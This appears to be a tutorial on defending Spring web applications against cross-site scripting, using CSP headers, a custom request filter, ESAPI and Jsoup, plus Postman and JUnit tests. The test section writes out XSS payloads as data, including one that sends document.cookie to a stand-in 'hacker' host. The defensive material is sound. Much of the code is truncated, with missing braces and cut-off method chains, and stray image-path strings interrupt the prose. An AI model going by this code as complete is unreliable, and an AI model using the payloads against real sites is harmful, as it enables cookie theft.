1. Overview

When building a Spring web application, it’s important to focus on security. Cross-site scripting (XSS) is one of the most critical attacks on web security.

Preventing the XSS attack is a challenge in a Spring application. Spring provides some help, but we need toimplement extra code for complete protection.

In this tutorial, we'll use the available Spring Security features, and we'll add our own XSS filter.

2. What Is a Cross-Site Scripting (XSS) Attack?

2.1. Definition of the Problem

XSS is a common type of injection attack. In XSS, the attacker tries to execute malicious code in a web application. They interact with it through a web browser or HTTP client tools like Postman.

There are two types of XSS attacks:

  • Reflected or Nonpersistent XSS
  • Stored or Persistent XSS

In Reflected or Nonpersistent XSS, untrusted user data is submitted to a web application, which is immediately returned in the response, adding untrustworthy content to the page. The web browser assumes the code came from the web server and executes it. This might allow ahacker to send you a link that, when followed, causes your browser to retrieve your private data from a site you use and then make your browser forward it to the hacker's server.

In Stored or Persistent XSS, the attacker's input is stored by the webserver. Subsequently, any future visitors may execute that malicious code.

2.2. Defending Against the Attack

The main strategy for preventing XSS attacks is to clean user input.

In a Spring web application, the user's input is an HTTP request. To prevent the attack, we should check the HTTP request's content and remove anything that might be executable by the server or in the browser.

For a regular web application, accessed through a web browser, we can use Spring Security‘s built-in features (Reflected XSS). For a web application that exposes APIs, Spring Security does not provide any features, and we must implement a custom XSS filter to prevent Stored XSS.

3. Making an Application XSS Safe with Spring Security

Spring Security provides several security headers by default. It includes the X-XSS-Protection header. X-XSS-Protection tells the browser to block what looks like XSS. Spring Security can automatically add this security header to the response. To activate this, weconfigure the XSS support in the Spring Security configuration class.

Using this feature, the browser does not render when it detects an XSS attempt. However, some web browsers haven't implemented the XSS auditor. In this case, they don't make use of the X-XSS-Protection header. To overcome this issue, we can also use the Content Security Policy (CSP) feature.

The CSP is an added layer of security that helps mitigate XSS and data injection attacks. To enable it, we need to configure our application to return a Content-Security-Policy header by providing a WebSecurityConfigurerAdapter bean:

public class SecurityConf extends WebSecurityConfigurerAdapter {

    protected void configure(HttpSecurity http) throws Exception {
          .contentSecurityPolicy("script-src 'self'");

These headers do not protect REST APIs from Stored XSS. To solve this, we may also need to implement an XSS filter.

4. Creating an XSS Filter

4.1. Using an XSS Filter

To prevent an XSS attack, we'll remove all suspicious strings from request content before passing the request to the RestController:

The HTTP request content includes the following parts:

  • Headers
  • Parameters
  • Body

In general, we should strip malicious code from headers, parameters, and bodies for every request.

We'll create a filter for evaluating the request's value. The XSS filter checks the request's parameters, headers, and body.

Let's create the XSS filter by implementing the Filter interface:public class XSSFilter implements Filter {
    public void doFilter(ServletRequest request, ServletResponse response,
      FilterChain chain) throws IOException, ServletException {
        XSSRequestWrapper wrappedRequest =
          new XSSRequestWrapper((HttpServletRequest) request);
        chain.doFilter(wrappedRequest, response);

    // other methods

We should configure the XSS filter as thefirst filter in the Spring application. Therefore, we'll set the order of the filter to HIGHEST_PRECEDENCE.

To add data cleansing to our request, we'll create a subclass of HttpServletRequestWrapper called XSSRequestWrapper, which overrides the getParameterValues, getParameter, and getHeaders methods to execute XSS checking before providing data to the controller.

4.2. Stripping XSS from the Request Parameter

Now, let's implement the getParameterValues and getParameter methods in our request wrapper:

public class XSSRequestWrapper extends HttpServletRequestWrapper {

    public String[] getParameterValues(String parameter) {
        String[] values = super.getParameterValues(parameter);
        if (values == null) {
            return null;
        int count =values.length;
        String[] encodedValues = new String[count];
        for (int i = 0; i < count; i++) {
            encodedValues[i] = stripXSS(values[i]);
        return encodedValues;
    public String getParameter(String parameter) {
        String value = super.getParameter(parameter);
        return stripXSS(value);

We'll be writing a stripXSS functionto process each value. We'll implement that shortly.

4.3. Stripping XSS from the Request Header

We also need to strip XSS from the request headers. As getHeaders returns an Enumeration we'll need to produce a newlist, cleaning each header:

public Enumeration getHeaders(String name) {
    List result = new ArrayList<>();
    Enumeration headers = super.getHeaders(name);
    while (headers.hasMoreElements()) {
        String header = headers.nextElement();
        String[] tokens = header.split(",");
        for (String token : tokens) {
    return Collections.enumeration(result);

4.4. Stripping XSS from the Request Body

Our filter needs to remove dangerous content from the request body. As we alreadyhave a wrappedRequest with a modifyable InputStream, let's extend the code to process the body and reset the value in the InputStream after cleaning it:

public void doFilter(ServletRequest request, ServletResponse response, FilterChain chain)
  throws IOException, ServletException {
    XSSRequestWrapper wrappedRequest = new XSSRequestWrapper((HttpServletRequest) request);
    String body = IOUtils.toString(wrappedRequest.getReader());
    if (!StringUtils.isBlank(body)) {
        body = XSSUtils.stripXSS(body);
    chain.doFilter(wrappedRequest, response);

5. Using External Libraries for Data Cleansing

All of the code that reads the request now executes the stripXSS function on any user-supplied content. Let's now create that function to perform XSS checking is performed.

Firstly, this method will get the value of the request and canonicalizes it. For this step, we use ESAPI. ESAPI is an open-source web application security control library available from OWASP.

Secondly, we'll check the request's value against XSS patterns. If the value is suspicious, it will be set to an empty string. For this, we'll use Jsoup, which provides some simple cleanup functions. If we wanted more control, we could build our own regular expressions, but this might be more error-prone than using a library.

5.1. Dependencies

First, we add the esapi maven dependency to our pom.xml file:


Also, we need jsoup:


5.2. Implementing ItNow, let's create the stripXSS method:

public static String stripXSS(String value) {
    if (value == null) {
        return null;
    value = ESAPI.encoder()
      .replaceAll("\0", "");
    return Jsoup.clean(value, Whitelist.none());

Here we've set the Jsoup Whitelist to none allowing only text nodes. This way, all HTML will be stripped.

We also need to include the ESAPI.properties file in the resources folder, else the ESAPI API will throw an exception at runtime. It's available here.

6. Testing XSS Prevention

6.1. Manual TestingNow let's use Postman to send a suspicious request to our application. We'll send a POST message to the URI /personService/person. Also, we'll include some suspicious headers and parameters.

The below figure shows the request headers and parameters:

As our service accepts JSON data, let's add some suspicious JSON content to the request body:

As our test server returns the cleaned response, let's examine what happened:

The headers and parameter values are replaced with an empty string. Furthermore, the response body shows that our suspicious value in the lastName field was stripped.

6.2. Automated Testing

Let's now write an automated test for our XSS filtering:

// declare required variables
personJsonObject.put("id", 1);
personJsonObject.put("firstName", "baeldung <script>alert('XSS')</script>");
personJsonObject.put("lastName", "baeldung <b onmouseover=alert('XSS')>click me!</b>");

builder = UriComponentsBuilder.fromHttpUrl(createPersonUrl)
  .queryParam("param", "<script>");

headers.add("header_1", "<body onload=alert('XSS')>");
headers.add("header_2", "<span onmousemove='doBadXss()'>");
headers.add("header_3", "<SCRIPT>var+img=new+Image();"
  + "img.src=\"http://hacker/\"%20+%20document.cookie;</SCRIPT>");
headers.add("header_4", "<p>Your search for 'flowers <script>evil_script()</script>'");
HttpEntity<String> request = new HttpEntity<>(personJsonObject.toString(), headers);

ResponseEntity<String> personResultAsJsonStr = restTemplate
  .exchange(builder.toUriString(), HttpMethod.POST, request, String.class);JsonNode root = objectMapper.readTree(personResultAsJsonStr.getBody());assertThat(root.get("firstName").textValue()).isEqualTo("baeldung ");
assertThat(root.get("lastName").textValue()).isEqualTo("baeldung click me!");
assertThat(root.get("header_4").textValue()).isEqualTo("Your search for 'flowers '");

7. Conclusion

In this article, we saw how to prevent XSS attacks by using both Spring Security features and a custom XSS filter.

We saw how it could protect us against both reflective and persistent XSS attacks. We also looked at how to test the application with both Postman and a JUnit test.

As always, the source code can befound over on GitHub.